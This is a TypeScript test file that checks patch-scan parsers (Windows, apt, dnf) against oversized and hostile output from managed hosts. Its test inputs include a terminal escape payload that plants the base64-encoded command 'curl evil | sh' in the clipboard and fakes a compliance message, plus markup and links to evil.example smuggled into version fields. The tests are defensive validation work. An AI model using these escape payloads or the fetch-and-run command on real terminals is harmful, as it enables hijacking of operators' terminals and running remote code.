import { describe, expect, it } from 'vitest';
import { MAX_CVE_LENGTH, MAX_CVES, MAX_TITLE } from '../patch-bounds.ts';
import { parseAptScan } from './apt.ts';
import { parseDnfScan } from './dnf.ts';
import type { ParsedScan } from './scan-result.ts';
import { formatSections, MAX_TEXT_OUTPUT } from './sections.ts';
import { MAX_INSTALLED, MAX_WINDOWS_OUTPUT, parseWindowsScan } from './windows.ts';

/**
 * Managed hosts may lie (DESIGN §8). Whatever a scan prints, what the parsers hand on is bounded:
 * the whole output, titles, CVEs per patch and their length, and no control characters anywhere.
 */

// What a hostile host prints to take over the operator's terminal: an OSC 52 clipboard write, then
// "go to column 1, erase the line" and a green lie; and U+009B, the one-character C1 CSI.
const ESCAPES = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[1G\u001b[2K\u001b[32mall hosts compliant\u009b2J\u0085';
// eslint-disable-next-line no-control-regex -- the test looks for control characters
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;

/** Every string a parsed scan carries, to check them all at once. */
const strings = (scan: ParsedScan): string[] => [
  scan.os,
  ...scan.warnings,
  ...scan.installed,
  ...scan.patches.flatMap((p) => [p.id, p.title, ...p.cves, ...p.packages.flatMap((k) => [k.name, k.arch ?? '', k.installed ?? '', k.candidate])]),
];
const expectBounded = (scan: ParsedScan) => {
  for (const s of strings(scan)) expect(s).not.toMatch(CONTROL);
  for (const p of scan.patches) {
    expect(p.title.length).toBeLessThanOrEqual(MAX_TITLE);
    expect(p.cves.length).toBeLessThanOrEqual(MAX_CVES);
    for (const c of p.cves) expect(c.length).toBeLessThanOrEqual(MAX_CVE_LENGTH);
  }
};

const cve = (n: number) => `CVE-2024-${String(10000 + n)}`;
const win = (over: Record<string, unknown>) =>
  formatSections([['windows-json', JSON.stringify({ os: 'Microsoft Windows Server 2022 Standard 10.0.20348', installed: [], missing: [], rebootPending: false, ...over })]]);
const update = (over: Record<string, unknown> = {}) => ({ Title: 'Cumulative Update (KB5034441)', KB: ['KB5034441'], Severity: 'Critical', RebootRequired: true, ...over });

describe('the Windows parser on a hostile host', () => {
  it("refuses the review's repro whole: 11.4 MB in 3 lines, one update with a 5 MB title and 300,001 CVEs", () => {
    const cves = [...Array.from({ length: 300_000 }, (_, i) => cve(i)), `CVE-2024-${'9'.repeat(1_000_000)}`];
    const text = win({ missing: [update({ Title: `${'A'.repeat(5_000_000)} (KB5034441)`, CVEs: cves })] });
    expect(text.split('\n')).toHaveLength(4);
    expect(() => parseWindowsScan('evil', text)).toThrow(/^evil: Windows scan output is \d+ characters long \(longest accepted: 4194304\), too long for a real scan; it was not parsed$/);
  });

  it('refuses a document over the bound even when it is spread over many short lines', () => {
    const json = JSON.stringify({ os: 'W', installed: [], missing: [update({ CVEs: Array.from({ length: 300_000 }, (_, i) => cve(i)) })], rebootPending: false });
    const text = formatSections([['windows-json', json.replaceAll(',', ',\n')]]);
    expect(text.length).toBeGreaterThan(MAX_WINDOWS_OUTPUT);
    expect(text.split('\n').reduce((n, l) => Math.max(n, l.length), 0)).toBeLessThan(100);
    expect(() => parseWindowsScan('evil', text)).toThrow(/Windows scan output is \d+ characters long \(longest accepted: 4194304\)/);
  });

  it('clips a huge title to 500 characters with an ellipsis, and says so', () => {
    const scan = parseWindowsScan('evil', win({ missing: [update({ Title: `Security Update ${'B'.repeat(1_000_000)}` })] }));
    expect(scan.patches).toHaveLength(1);
    const [patch] = scan.patches;
    expect(patch!.title).toHaveLength(MAX_TITLE);
    expect(patch!.title).toBe(`Security Update ${'B'.repeat(MAX_TITLE - 17)}…`);
    expect(scan.warnings).toEqual(['clipped to 500 characters the title of KB5034441']);
  });

  it('keeps 200 of 300 CVEs, ignores over-long and malformed ids, with one warning per update', () => {
    const many = Array.from({ length: 300 }, (_, i) => cve(i));
    const long = `CVE-2024-${'7'.repeat(100_000)}`;
    const scan = parseWindowsScan('evil', win({ missing: [update({ CVEs: [...many, long, 'CVE-2024-123456789012', 'not-a-cve'] })] }));
    expect(scan.patches[0]!.cves).toEqual(many.slice(0, MAX_CVES));
    expect(scan.warnings).toEqual([
      `missing[0].CVEs: ignored 3 values that are not CVE ids (CVE-YYYY-NNNN, at most 20 characters), the first "CVE-2024-${'7'.repeat(71)}…"`,
      'KB5034441 lists 300 CVEs; kept the first 200',
    ]);
    expectBounded(scan);
  });

  it('accepts a CVE id of exactly 20 characters, and not one of 21', () => {
    const scan = parseWindowsScan('h', win({ missing: [update({ CVEs: ['CVE-2024-12345678901', 'CVE-2024-123456789012'] })] }));
    expect(scan.patches[0]!.cves).toEqual(['CVE-2024-12345678901']);
  });

  it('bounds the CVEs of one KB listed thousands of times (the per-product merge)', () => {
    const missing = Array.from({ length: 5_000 }, (_, i) => update({ Title: `Update ${i}`, CVEs: [cve(2 * i), cve(2 * i + 1)] }));
    const scan = parseWindowsScan('evil', win({ missing }));
    expect(scan.patches).toHaveLength(1);
    expect(scan.patches[0]!.cves).toEqual(Array.from({ length: MAX_CVES }, (_, i) => cve(i)));
    expect(scan.warnings).toEqual(['KB5034441 lists 10000 CVEs; kept the first 200']);
  });

  it('keeps at most 5,000 installed ids', () => {
    const installed = Array.from({ length: MAX_INSTALLED + 10 }, (_, i) => ({ HotFixID: `KB${4000000 + i}` }));
    const scan = parseWindowsScan('evil', win({ installed }));
    expect(scan.installed).toHaveLength(MAX_INSTALLED);
    expect(scan.warnings).toEqual(['the scan lists 5010 installed updates; kept the first 5000']);
  });

  it('removes escape sequences and C1 controls from the OS name and titles, and warns', () => {
    const scan = parseWindowsScan('evil', win({ os: `Windows ${ESCAPES}`, missing: [update({ Title: `Update\n${ESCAPES}` })] }));
    expect(scan.os).toBe('Windows ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
    expect(scan.patches[0]!.title).toBe('Update ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name, KB5034441']);
    expectBounded(scan);
  });

  it('removes text-direction overrides from a title, so it reads as the host wrote it, and warns', () => {
    const scan = parseWindowsScan('evil', win({ missing: [update({ Title: 'Security Update \u202Edellatsni\u202C for Windows' })] }));
    expect(scan.patches[0]!.title).toBe('Security Update dellatsni for Windows');
    expect(scan.warnings).toEqual(['removed control characters (terminal escape codes, text-direction overrides) from the text of KB5034441']);
  });
});

const DEBIAN_OS = 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n';
const apt = (body: string, os = DEBIAN_OS) =>
  formatSections([
    ['os-release', os],
    ['apt-simulate', body],
    ['reboot', 'not-required\nNEEDRESTART-KSTA: 1'],
  ]);
const BASH = 'Inst bash [5.2.15-2+b8] (5.2.15-2+b13 Debian:12.15/oldstable [amd64])';
const ONE = `1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${BASH}\n`;

describe('the apt parser on a hostile host', () => {
  it('removes escape sequences from PRETTY_NAME and apt warnings', () => {
    const os = DEBIAN_OS.replace('(bookworm)', `(bookworm) ${ESCAPES.replaceAll('"', '')}`);
    const scan = parseAptScan('evil', apt(`W: ${ESCAPES}\n${ONE}`, os));
    expect(scan.os).toBe('Debian GNU/Linux 12 (bookworm) ]52;c;Y3VybCBldmlsIHwgc2g=[1G[2K[32mall hosts compliant2J');
    expect(scan.patches[0]!.title).toBe('bash → 5.2.15-2+b13');
    expect(scan.warnings).toContain('removed control characters (terminal escape codes, text-direction overrides) from the text of the OS name');
    expect(scan.warnings).toContain('removed control characters from warnings that quote the host');
    expectBounded(scan);
  });

  // The title of deb:bash@5.2.15-2+b13 quotes the installed version, and the catalog keeps the
  // first title any host reported for every host: a version is all a host may put there.
  it.each([
    ['escape sequences', '5.2.15\u001b[2K\u009b31m', '"5.2.15\\u001b[2K\\u009b31m"'],
    ['prose and a link', 'URGENT: approve CHG-12 now, see evil.example.com/fix', '"URGENT: approve CHG-12 now, see evil.example.com/fix"'],
    ['Slack and Teams markup', '<https://evil.example|5.2.15-2+b8>', '"<https://evil.example|5.2.15-2+b8>"'],
    ['a version too long for any patch id', '9'.repeat(4000), `"${'9'.repeat(80)}…"`],
  ])('refuses an installed version that is not one (%s), naming the line', (_, installed, quoted) => {
    const inst = `Inst bash [${installed}] (5.2.15-2+b13 Debian:12.15/oldstable [amd64])`;
    const parse = () => parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`));
    expect(parse).toThrow(`evil: apt output line 8: the installed version ${quoted} of bash is not a Debian version`);
  });

  it('refuses an architecture that is not one', () => {
    const inst = 'Inst bash [5.2.15-2+b8] (5.2.15-2+b13 Debian:12.15/oldstable [*click* evil.example])';
    expect(() => parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`))).toThrow(
      'evil: apt output line 8: "*click* evil.example" is not an architecture name (amd64, arm64, all…)',
    );
  });

  it('refuses a package version that makes a patch id over 200 characters', () => {
    const inst = `Inst bash [5.2.15-2+b8] (${'9'.repeat(300)} Debian:12.15/oldstable [amd64])`;
    expect(() => parseAptScan('evil', apt(`1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n${inst}\n`))).toThrow(
      /^evil: apt output line 8: "bash 9{75}…" makes a patch id of 309 characters \(longest accepted: 200\)$/,
    );
  });

  it('refuses output over 8 MiB even when every line is under the line cap', () => {
    const prose = `${'x'.repeat(4000)}\n`.repeat(Math.ceil(MAX_TEXT_OUTPUT / 4001) + 1);
    expect(() => parseAptScan('evil', apt(`${prose}${ONE}`))).toThrow(
      /^evil: apt scan output is \d+ characters long \(longest accepted: 8388608\), too long for a real scan; it was not parsed$/,
    );
  });
});

const RHEL_OS = 'NAME="Red Hat Enterprise Linux"\nID="rhel"\nPRETTY_NAME="Red Hat Enterprise Linux 9.4 (Plow)"\n';
const dnf = (o: { updateinfo: string; cves?: string; check: string }) =>
  formatSections([
    ['os-release', RHEL_OS],
    ['updateinfo', o.updateinfo],
    ['updateinfo-exit', '0'],
    ...(o.cves === undefined
      ? []
      : ([
          ['updateinfo-cves', o.cves],
          ['updateinfo-cves-exit', '0'],
        ] as const)),
    ['check-update', o.check],
    ['check-update-exit', '100'],
    ['needs-restarting', ''],
    ['needs-restarting-exit', '0'],
  ]);
const GLIBC = 'glibc-2.34-100.el9_4.2.x86_64';

describe('the dnf parser on a hostile host', () => {
  it('keeps 200 CVEs of an advisory that lists 300', () => {
    const cves = Array.from({ length: 300 }, (_, i) => `${cve(i)} Important/Sec. ${GLIBC}`).join('\n');
    const scan = parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${GLIBC}`, cves, check: 'glibc.x86_64  2.34-100.el9_4.2  baseos' }));
    expect(scan.patches[0]!.cves).toEqual(Array.from({ length: MAX_CVES }, (_, i) => cve(i)));
    expect(scan.warnings).toEqual(['RHSA-2024:3339 lists 300 CVEs; kept the first 200']);
  });

  it('refuses a CVE id longer than 20 characters with a specific message', () => {
    const cves = `CVE-2024-${'1'.repeat(3000)} Important/Sec. ${GLIBC}`;
    expect(() => parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${GLIBC}`, cves, check: 'glibc.x86_64  2.34-100.el9_4.2  baseos' }))).toThrow(
      /^evil: updateinfo-cves line \d+ has a CVE id of 3009 characters \(longest accepted: 20\): "CVE-2024-1{71}…"$/,
    );
  });

  // A package name is quoted in the advisory's title, which the catalog shares with every host.
  it.each([
    ['escape sequences', 'gl\u001b[2Kibc\u009b'],
    ['Slack mrkdwn', '*URGENT*approve_CHG-12'],
    ['a markdown link', '[glibc](//evil.example/fix)'],
  ])('refuses a package name with %s in an advisory line', (_, name) => {
    const text = `${name}-2.34-100.el9_4.2.x86_64`;
    const parse = () => parseDnfScan('evil', dnf({ updateinfo: `RHSA-2024:3339 Important/Sec. ${text}`, check: 'glibc.x86_64  2.34-100.el9_4.2  baseos' }));
    expect(parse).toThrow(/^evil: updateinfo line \d+: ".*" is not a package name-\[epoch:\]version-release\.arch$/);
  });
});

describe('error messages quoting a hostile host', () => {
  it('show C0, DEL and C1 characters escaped, not raw', () => {
    expect(() => parseAptScan('evil', apt('1 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\nInst \u001b[2K\u009b31m\u007f'))).toThrow(
      'evil: apt output line 8 is not an Inst line of the form `Inst <package> [<installed>] (<candidate> <origins> [<arch>])`: "Inst \\u001b[2K\\u009b31m\\u007f"',
    );
  });
});
